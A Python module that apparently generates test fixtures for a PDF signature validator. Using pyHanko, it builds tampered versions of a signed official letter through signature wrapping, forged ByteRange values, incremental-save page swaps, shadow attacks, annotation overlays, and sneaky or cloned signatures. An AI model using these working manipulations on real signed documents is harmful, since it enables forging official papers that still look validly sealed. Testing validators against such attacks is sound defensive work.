"""Published attacks on signed PDFs, each as a real file made from a sealed letter."""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data))


def _out(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _stream(text: bytes) -> generic.StreamObject:
    return generic.StreamObject(stream_data=text)


def _field(writer, name: str):
    return next(f.get_object() for f in writer.root["/AcroForm"]["/Fields"] if f.get_object()["/T"] == name)


def flipped(data: bytes, at: int = 2000) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def cut(data: bytes) -> bytes:
    return data[:-900]


def rewritten(data: bytes) -> bytes:
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    return _out(copy_into_new_writer(PdfFileReader(io.BytesIO(data))))


def forged_no_range(data: bytes) -> bytes:
    return re.sub(rb"/ByteRange", rb"/ByteRangf", data)


def forged_null_contents(data: bytes) -> bytes:
    """The last signature's value is replaced by zeros."""
    place = data.rfind(b"/Contents <") + len(b"/Contents <")
    end = data.index(b">", place)
    return data[:place] + b"0" * (end - place) + data[end:]


def forged_negative(data: bytes) -> bytes:
    return re.sub(rb"/ByteRange \[0 (\d)(\d+)", rb"/ByteRange [0 -\2", data)


def page_replaced(data: bytes) -> bytes:
    """Incremental saving: other words on page 1."""
    writer = _writer(data)
    page = writer.find_page_for_modification(0)[0]
    page.get_object()[pdf_name("/Contents")] = writer.add_object(_stream(b"BT ET 0 0 100 100 re f"))
    writer.mark_update(page)
    return _out(writer)


def page_added(data: bytes) -> bytes:
    writer = _writer(data)
    page = writer.find_page_for_modification(0)[0]
    pages = writer.root["/Pages"]
    new = generic.DictionaryObject({**page.get_object()})
    new.pop("/Annots", None)
    pages["/Kids"].append(writer.add_object(new))
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages["/Kids"])
    writer.update_container(pages)
    return _out(writer)


def number_changed(data: bytes) -> bytes:
    """Another appearance for the number after the seal."""
    writer = _writer(data)
    field = _field(writer, "SoVanBan")
    old = field["/AP"]["/N"]
    made = _stream(b"0 0 30 10 re f")
    made[pdf_name("/Type")], made[pdf_name("/Subtype")] = pdf_name("/XObject"), pdf_name("/Form")
    made[pdf_name("/BBox")] = old["/BBox"]
    field["/AP"][pdf_name("/N")] = writer.add_object(made)
    writer.update_container(field["/AP"])
    return _out(writer)


def trailing(data: bytes) -> bytes:
    """Incremental saving without a table: what follows the end belongs to no revision."""
    return data + b"\n4 0 obj\n<< /Type /Catalog >>\nendobj\n"


def wrapped(data: bytes) -> bytes:
    """The signed rest is moved back, and other objects are put into the gap it leaves."""
    ranges = list(re.finditer(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", data))
    last = ranges[-1]
    first, second, length = (int(n) for n in last.groups())
    extra = b"\n99 0 obj\n<< /Evil true >>\nendobj\n".ljust(200)
    new = f"/ByteRange [0 {first} {second + len(extra)} {length}]".encode().ljust(len(last[0]))
    before = data[: last.start()] + new + data[last.start() + len(new) : second]
    return before[:second] + extra + data[second:]


def freed(data: bytes) -> bytes:
    """Shadow, hide: an object that covered something is taken away after signing."""
    writer = _writer(data)
    page = writer.find_page_for_modification(0)[0]
    writer.objects[(0, page.idnum)] = generic.NullObject()
    return _out(writer)


def font_replaced(data: bytes) -> bytes:
    """Shadow, replace: the words are the same bytes, the glyphs become others."""
    writer = _writer(data)
    page = writer.find_page_for_modification(0)[0].get_object()
    fonts = page["/Resources"]["/Font"]
    font = fonts[next(iter(fonts))]
    font[pdf_name("/BaseFont")] = pdf_name("/Evil")
    writer.update_container(font)
    return _out(writer)


def hide_and_replace(data: bytes) -> bytes:
    """Shadow, hide and replace: the catalogue leads to another page tree."""
    writer = _writer(data)
    page = writer.find_page_for_modification(0)[0].get_object()
    other = generic.DictionaryObject({k: v for k, v in page.items() if k not in ("/Annots", "/Parent")})
    other[pdf_name("/Contents")] = writer.add_object(_stream(b"10 10 50 50 re f"))
    ref = writer.add_object(other)
    tree = {"/Type": pdf_name("/Pages"), "/Count": generic.NumberObject(1), "/Kids": generic.ArrayObject([ref])}
    pages = writer.add_object(generic.DictionaryObject({pdf_name(k): v for k, v in tree.items()}))
    other[pdf_name("/Parent")] = pages
    writer.root[pdf_name("/Pages")] = pages
    writer.update_root()
    return _out(writer)


def annotated(data: bytes, kind: str = "/FreeText") -> bytes:
    """Evil annotation: something drawn over the text, as an annotation."""
    writer = _writer(data)
    page = writer.find_page_for_modification(0)[0]
    look = _stream(b"1 1 1 rg 0 0 400 200 re f")
    look[pdf_name("/Type")], look[pdf_name("/Subtype")] = pdf_name("/XObject"), pdf_name("/Form")
    look[pdf_name("/BBox")] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 400, 200)])
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(kind),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (100, 400, 500, 600)]),
            pdf_name("/Contents"): pdf_string("che"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
        }
    )
    holder = page.get_object()
    notes = holder.get("/Annots", generic.ArrayObject())
    holder[pdf_name("/Annots")] = generic.ArrayObject([*notes, writer.add_object(note)])
    writer.mark_update(page)
    return _out(writer)


def field_over_text(data: bytes) -> bytes:
    """A new signature field, unsigned, with a white appearance over the text."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    writer = _writer(data)
    append_signature_field(writer, SigFieldSpec("Che", on_page=0, box=(60, 500, 500, 790), empty_field_appearance=True))
    return _out(writer)


def signed_over_text(data: bytes, signer, box=(60, 500, 500, 790), name: str = "Che", room: int | None = None) -> bytes:
    """Sneaky signature: a further signature whose appearance covers the text; without a box in a field that is there."""
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigFieldSpec

    meta = signers.PdfSignatureMetadata(field_name=name, md_algorithm="sha256")
    spec = SigFieldSpec(name, box=box) if box is not None else None
    out = signers.PdfSigner(meta, signer, new_field_spec=spec).sign_pdf(_writer(data), bytes_reserved=room)
    return out.getvalue()


def certified(plain: bytes, signer, permission: int) -> bytes:
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm, SigFieldSpec

    meta = signers.PdfSignatureMetadata(
        field_name="ChungNhan", md_algorithm="sha256", certify=True, docmdp_permissions=MDPPerm(permission)
    )
    spec = SigFieldSpec("ChungNhan", box=(10, 10, 60, 30))
    return signers.PdfSigner(meta, signer, new_field_spec=spec).sign_pdf(_writer(plain)).getvalue()


def cloned(data: bytes) -> bytes:
    """The seal's signature under another name as well."""
    writer = _writer(data)
    field = _field(writer, "DauCoQuan")
    copy = generic.DictionaryObject({**field})
    copy[pdf_name("/T")] = pdf_string("BanSao")
    writer.root["/AcroForm"]["/Fields"].append(writer.add_object(copy))
    writer.update_container(writer.root["/AcroForm"]["/Fields"])
    return _out(writer)


BY_NAME = {
    f.__name__: f
    for f in (
        flipped, cut, rewritten, forged_no_range, forged_null_contents, forged_negative, page_replaced, page_added,
        number_changed, trailing, wrapped, freed, font_replaced, hide_and_replace, annotated, field_over_text, cloned,
    )
}  # fmt: skip
